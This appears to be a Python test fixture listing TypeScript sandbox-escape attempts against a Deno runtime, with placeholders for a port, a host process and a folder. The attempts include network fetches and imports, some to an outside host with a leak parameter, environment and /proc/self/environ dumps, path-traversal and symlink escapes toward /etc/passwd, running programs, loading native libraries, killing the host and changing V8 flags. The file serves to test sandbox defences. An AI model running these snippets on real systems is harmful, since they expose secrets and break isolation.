"""How hostile TypeScript tries to get at what is outside.

`$PORT`, `$HOST` and `$WORLD` stand for a server, a process and a folder to get at.
"""

from dataclasses import dataclass

LEAK = "CANARY"


@dataclass(frozen=True, slots=True)
class Attack:
    name: str
    code: str
    ends: tuple[str, ...] = ()
    """How it has to end: `value`, or a code. Empty: any way, as long as nothing is found out."""
    reads: bool = False
    """Whether it may read the folder `open` of the world."""
    tools: bool = False
    """Whether it may call `github:list_commits`."""
    timeout_ms: int = 60_000


def imports(module: str, then: str) -> str:
    return f'const m = await import("{module}"); {then}'


NETWORK = [
    Attack("fetch from a server on this machine", 'await (await fetch("http://127.0.0.1:$PORT/next")).text()'),
    Attack(
        "connect to it",
        'const c = await Deno.connect({hostname: "127.0.0.1", port: $PORT});'
        'await c.write(new TextEncoder().encode("GET /x HTTP/1.0\\r\\n\\r\\n")); return "CANARY"',
    ),
    Attack(
        "ask it with node:http",
        imports("node:http", 'return await new Promise((r, j) => m.get("http://127.0.0.1:$PORT/h", r).on("error", j))'),
    ),
    Attack(
        "connect with node:net",
        imports(
            "node:net",
            'return await new Promise((r, j) => m.connect($PORT, "127.0.0.1", () => r("CANARY")).on("error", j))',
        ),
    ),
    Attack(
        "ask for a name", imports("node:dns/promises", 'return "CANARY" + JSON.stringify(await m.lookup("a.example"))')
    ),
    Attack("import from a server", '(await import("http://127.0.0.1:$PORT/m.js")).default'),
    Attack(
        "import from a host that Deno allows by default",
        'await import("https://raw.githubusercontent.com/x/y/m.js?leak=1"); return "CANARY"',
    ),
    Attack("import a package", 'await import("npm:left-pad"); return "CANARY"'),
]

SECRETS = [
    Attack("the environment", "Deno.env.toObject()"),
    Attack("the environment of Node", imports("node:process", "return {...m.default.env}")),
    Attack("the environment of the host", 'Deno.readTextFileSync("/proc/$HOST/environ")'),
    Attack(
        "its own environment, by node:fs",
        imports("node:fs", 'return m.readFileSync("/proc/self/environ", "utf8") + "CANARY"'),
    ),
    Attack("host name and user", 'return "CANARY" + Deno.hostname() + Deno.uid()'),
    Attack("network interfaces", imports("node:os", 'return "CANARY" + JSON.stringify(m.networkInterfaces())')),
]

FILES = [
    Attack(
        "import a file as text",
        '(await import("file://$WORLD/secret.txt", {with: {type: "text"}})).default',
        reads=True,
    ),
    Attack("read a file beside the allowed folder", 'Deno.readTextFileSync("$WORLD/secret.txt")', reads=True),
    Attack("go up from the allowed folder", 'Deno.readTextFileSync("$WORLD/open/../secret.txt")', reads=True),
    Attack("follow a link out of the allowed folder", 'Deno.readTextFileSync("$WORLD/open/link")', reads=True),
    Attack("write a file", 'Deno.writeTextFileSync("$WORLD/made", "x"); return "CANARY"'),
    Attack(
        "make a link in the allowed folder", 'Deno.symlinkSync("/etc/passwd", "$WORLD/open/made"); "CANARY"', reads=True
    ),
    Attack("open a database file", imports("node:sqlite", 'new m.DatabaseSync("$WORLD/x.db"); return "CANARY"')),
    Attack(
        "attach a database file",
        imports(
            "node:sqlite",
            'new m.DatabaseSync(":memory:").exec("ATTACH DATABASE \'$WORLD/y.db\' AS y; CREATE TABLE y.t(a)");'
            'return "CANARY"',
        ),
    ),
]

PROGRAMS = [
    Attack(
        "run a program",
        'try { new Deno.Command("/bin/true").outputSync(); return "CANARY" } catch { /* another way */ }'
        + imports("node:child_process", 'm.execFileSync("/bin/true", [], {env: {}}); return "CANARY"'),
    ),
    Attack("call a library", 'Deno.dlopen("libc.so.6", {getpid: {parameters: [], result: "i32"}}); return "CANARY"'),
    Attack(
        "load an addon",
        imports("node:process", 'm.default.dlopen({exports: {}}, "/lib/x86_64-linux-gnu/libm.so.6"); return "CANARY"'),
    ),
    Attack(
        "kill the host",
        'try { Deno.kill($HOST, "SIGTERM") } catch { (await import("node:process")).default.kill($HOST, "SIGTERM") }'
        'return "CANARY"',
    ),
    Attack("open the inspector", imports("node:inspector", 'm.open(9333); return "CANARY"')),
]

ENGINE = [
    Attack(
        "raise the limit of the heap",
        imports(
            "node:v8",
            "const limit = () => m.getHeapStatistics().heap_size_limit; const before = limit();"
            'm.setFlagsFromString("--max-old-space-size=8000"); return limit() > before ? "CANARY" : "same"',
        ),
    ),
    Attack(
        "switch on V8's own functions",
        imports(
            "node:v8",
            'm.setFlagsFromString("--allow-natives-syntax");'
            'try { return "CANARY" + (0, eval)("%GetHeapUsage()") } catch { return "none" }',
        ),
    ),
]
